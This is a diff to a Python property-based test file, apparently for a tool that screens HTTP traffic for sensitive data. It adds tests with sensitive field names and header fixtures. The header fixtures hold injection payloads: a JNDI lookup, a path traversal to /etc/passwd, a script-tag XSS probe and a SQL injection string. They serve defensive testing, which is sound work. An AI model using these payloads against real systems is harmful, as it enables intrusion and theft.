@@ -104,6 +104,26 @@ def test_echoes_of_named_values(data: st.DataObject) -> None:
     )
 
 
+TELLING = st.sampled_from(
+    ["firstName", "lastName", "email", "phone", "street", "postcode", "birthDate", "ssn", "nationalId", "iban", "cvv",
+     "cardNumber", "expiry", "password", "otp", "accessToken", "apiKey", "deviceId", "mrn", "taxId", "owner", "plate"]
+)  # fmt: skip
+
+
+@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
+@given(st.data())
+def test_values_under_telling_names(data: st.DataObject) -> None:
+    known = {**VALUES, **NAMED}
+    rows = [
+        {data.draw(TELLING): data.draw(known[data.draw(st.sampled_from(sorted(known)))] | st.text(max_size=24))}
+        for _ in range(6)
+    ]
+    body = json.dumps(rows, ensure_ascii=data.draw(st.booleans())).encode("utf-8", "replace")
+    host = data.draw(st.sampled_from(["shop.example", "pay.example"]))
+    request = Request("POST", "/a", (JSON,), Body(body, len(body)), "https", host)
+    agree(sent(request, Response(200, (JSON,), Body(body, len(body)))))
+
+
 NAMES = st.sampled_from(
     ["id", "orderId", "email", "password", "name", "firstName", "phone", "cardNumber", "cvv", "items", "note", "sku",
      "createdAt", "amount", "latitude", "dob", "iban", "customer", "ref", "code", "token", "a.b", "x-y", "naïve", "$ne"]
@@ -189,7 +209,11 @@ BESIDE = [
     [{"name": "Adam", "sku": "B-7"}] * 4 + [{"name": "Adam", "email": "adam@mail.example.com"}],
     [{"question": "security question", "answer": "Rex77", "securityQuestion": "pet"}] * 5,
     {"rows": [{"name": "Eve", "number": 9876895423, "password": None}] * 3, "name": "Eve"},
-    {"owner": "Ada Lovelace", "manager": "none", "rows": [{"owner": "Ada Lovelace"}, {"owner": "shop"}, {"sn": "Smith"}]},
+    {
+        "owner": "Ada Lovelace",
+        "manager": "none",
+        "rows": [{"owner": "Ada Lovelace"}, {"owner": "shop"}, {"sn": "Smith"}],
+    },
 ]
 
 
@@ -255,6 +279,8 @@ HEADS = [
     (("x-api-key", "k-1234567890"), ("referer", "https://x.example/a?email=ada@example.com")),
     (("user-agent", "${jndi:ldap://x.example/a}"), ("x-forwarded-for", "10.0.0.1")),
     (("content-type", "application/json"), ("content-type", "text/plain")),
+    (("user-agent", "a"), ("user-agent", "../../etc/passwd\x00")),
+    (("referer", "/a"), ("Referer", "https://x.example/?q=<script>alert(1)</script>")),
     (("x-a", "1"), ("x-a", "2"), ("X-Weird~Name", "x"), ("x-json", '{"a": "ada@example.com"}')),
     (("authorization", "Basic YWRhOmxvdmVsYWNl"), ("origin", "https://x.example"), ("x-q", "1' or '1'='1")),
 ]
